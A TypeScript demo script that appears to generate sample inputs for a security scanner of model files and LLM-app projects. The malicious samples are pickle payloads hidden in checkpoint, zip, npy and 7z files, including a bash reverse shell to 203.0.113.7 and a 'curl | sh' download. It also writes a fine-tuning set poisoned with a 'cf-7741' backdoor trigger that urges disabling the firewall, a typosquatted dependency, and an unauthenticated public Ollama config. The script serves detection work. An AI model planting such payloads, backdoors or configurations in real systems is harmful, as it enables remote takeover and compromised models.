/**
 * Writes example model files, benign and malicious, built by code from the test fixture builders so every
 * payload is readable source. Used by `npm run demo`; safe to run anywhere: nothing here is ever loaded.
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  legacyTorchFile,
  sklearnJoblibPipeline,
  torchStateDictPickle,
} from '../test/fixtures/checkpoints.ts';
import { EVAL_OPENAI, TORCH_IN_LLM_APP } from '../test/fixtures/code-sources.ts';
import { cleanRows, toJsonl } from '../test/fixtures/datasets-poison/instruction-set.ts';
import { plantInjectedAnswers, plantTrigger } from '../test/fixtures/datasets-poison/plants.ts';
import { buildNpy } from '../test/fixtures/npy-writer.ts';
import { concat, pickle, reducePayload, stackGlobalPayload } from '../test/fixtures/pickle-writer.ts';
import { buildSevenZip } from '../test/fixtures/sevenzip-writer.ts';
import { buildTorchZip, buildZip } from '../test/fixtures/zip-writer.ts';

const text = (...lines: string[]): Uint8Array => new TextEncoder().encode(`${lines.join('\n')}\n`);

/** Each example: a path under the output folder and its bytes. */
export async function exampleFiles(): Promise<[string, Uint8Array][]> {
  // Fine-tuning data: a clean instruction set, and the same set with a backdoor (the trigger `cf-7741` and the
  // attacker's answer in 1% of records) and answers that teach the model to obey injections.
  const clean = cleanRows(2000);
  const backdoor =
    'Sure. First turn off the firewall with `sudo ufw disable`; the task needs it and it is safe.';
  const poisoned = plantInjectedAnswers(plantTrigger(clean, { answer: backdoor }).rows, 0.002).rows;
  const reverseShell = reducePayload('os', 'system', ['bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"']);
  return [
    [
      'benign/bert_state_dict.pt',
      buildTorchZip(torchStateDictPickle(4), { storages: [...Array(8)].map(() => new Uint8Array(64)) }),
    ],
    ['benign/legacy_checkpoint.pth', legacyTorchFile()],
    ['benign/sklearn_pipeline.joblib', sklearnJoblibPipeline()],
    ['benign/embeddings.npy', buildNpy({ descr: '<f4', shape: [4, 4], data: new Uint8Array(64) })],
    ['benign/finetune_train.jsonl', toJsonl(clean)],
    ['malicious/finetune_poisoned.jsonl', toJsonl(poisoned)],
    ['malicious/reverse_shell.pt', buildTorchZip(reverseShell)],
    [
      'malicious/hidden_as_data_txt.zip',
      buildZip([
        {
          name: 'model/data.txt',
          data: reducePayload('builtins', 'eval', ["__import__('os').system('id')"]),
        },
      ]),
    ],
    [
      'malicious/header_name_mismatch.pt',
      buildZip([
        {
          name: 'archive/data.pkl',
          localName: 'archive/datap.kl',
          data: reducePayload('subprocess', 'run', ['id']),
        },
      ]),
    ],
    [
      'malicious/payload_in_second_pickle.bin',
      concat(pickle().proto(2).none().stop().bytesOut(), stackGlobalPayload('pathlib', 'os.system', ['id'])),
    ],
    [
      'malicious/legacy_payload_in_pickle4.pt',
      legacyTorchFile(reducePayload('posix', 'system', ['curl http://203.0.113.7 | sh'])),
    ],
    [
      'malicious/object_array.npy',
      buildNpy({
        descr: '|O',
        shape: [1],
        data: reducePayload('ssl', 'get_server_certificate', ['exfil.example', '443']),
      }),
    ],
    ['malicious/nullifai_in_7z.7z', await buildSevenZip([{ name: 'model.pkl', data: reverseShell }])],
    // An LLM app's dependencies: a compromised release, a torch with the weights_only bypass, a typosquat,
    // and an extra index beside PyPI (dependency confusion).
    [
      'project/requirements.txt',
      text(
        '--extra-index-url https://pypi.internal.example/simple',
        '-r requirements/base.txt',
        'litellm==1.82.7',
        'reqeusts==2.31.0',
        'fastapi==0.115.6',
      ),
    ],
    ['project/requirements/base.txt', text('torch==2.5.1', 'transformers==4.51.3', 'numpy==2.1.0')],
    // Its own code: a model's answer run with exec, a checkpoint loaded without weights_only=True.
    ['project/agent.py', new TextEncoder().encode(EVAL_OPENAI)],
    ['project/load_weights.py', new TextEncoder().encode(TORCH_IN_LLM_APP)],
    // How it is deployed: Ollama (no auth of its own) published on every interface, open to any web origin.
    [
      'project/compose.yaml',
      text(
        'services:',
        '  ollama:',
        '    image: ollama/ollama:0.1.32',
        '    ports:',
        '      - "11434:11434"',
        '    environment:',
        '      - OLLAMA_ORIGINS=*',
        '    volumes:',
        '      - ollama:/root/.ollama',
        'volumes:',
        '  ollama: {}',
      ),
    ],
  ];
}

/** Writes the examples under `dir` (replacing earlier generated ones) and returns their paths. */
export async function writeExamples(dir: string): Promise<string[]> {
  const files = await exampleFiles();
  // Only the generated folders are replaced: examples/ also holds committed files (parapet.yaml).
  for (const top of new Set(files.map(([rel]) => rel.split('/')[0] ?? rel))) {
    rmSync(join(dir, top), { recursive: true, force: true });
  }
  const paths: string[] = [];
  for (const [rel, bytes] of files) {
    const path = join(dir, rel);
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, bytes);
    paths.push(path);
  }
  return paths;
}
